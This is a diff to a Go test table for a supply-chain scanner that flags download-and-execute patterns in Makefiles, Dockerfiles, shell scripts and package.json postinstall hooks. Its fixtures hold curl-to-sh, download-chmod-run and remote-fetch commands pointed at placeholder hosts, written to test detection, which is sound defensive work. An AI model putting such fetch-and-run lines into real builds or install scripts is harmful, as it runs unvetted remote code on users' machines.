@@ -32,6 +32,11 @@ func TestSpecifics(t *testing.T) {
 		{"curl to sh in a Makefile recipe", "Makefile", "all:\n\t@curl -sL https://x.invalid | sh\n", "GB0601", glassbox.SeverityHigh},
 		{"curl to sh in a Makefile's help", "Makefile", "help:\n\t@echo \"curl -sL https://x.invalid | sh\"\n", "", ""},
 		{"curl to sh run by make's $(shell)", "Makefile", "X := $(shell curl -sL https://x.invalid | sh)\n", "GB0601", glassbox.SeverityHigh},
+		// league/commonmark 2.3.9's docker/Dockerfile installs the Blackfire
+		// client into the image: downloaded, made executable, never run.
+		{"download made executable, installed, not run", "docker/Dockerfile", "RUN set -xe \\\n        && curl -A \"Docker\" -o /tmp/blackfire/blackfire -D - -L -s https://packages.invalid/blackfire-linux_amd64 \\\n        && mv /tmp/blackfire/blackfire /usr/bin/blackfire \\\n        && chmod +x /usr/bin/blackfire\n", "GB0601", glassbox.SeverityLow},
+		{"download made executable and run", "install.sh", "curl -sSL -o /tmp/tool https://x.invalid/tool\nchmod +x /tmp/tool\n/tmp/tool --install\n", "GB0601", glassbox.SeverityHigh},
+		{"download made executable and run after &&", "Dockerfile", "RUN curl -o /usr/local/bin/tool https://x.invalid/tool && chmod 755 /usr/local/bin/tool && tool setup\n", "GB0601", glassbox.SeverityHigh},
 		{"sh -c of curl", "Dockerfile", "RUN sh -c \"$(curl -fsSL https://x.invalid/i.sh)\"\n", "GB0601", glassbox.SeverityHigh},
 		{"postinstall runs node", "package.json", `{"scripts":{"postinstall":"node scripts/postinstall.js"}}`, "GB0602", glassbox.SeverityMedium},
 		{"postinstall downloads", "package.json", `{"scripts":{"postinstall":"node -e \"require('https').get('https://x.invalid')\""}}`, "GB0602", glassbox.SeverityHigh},
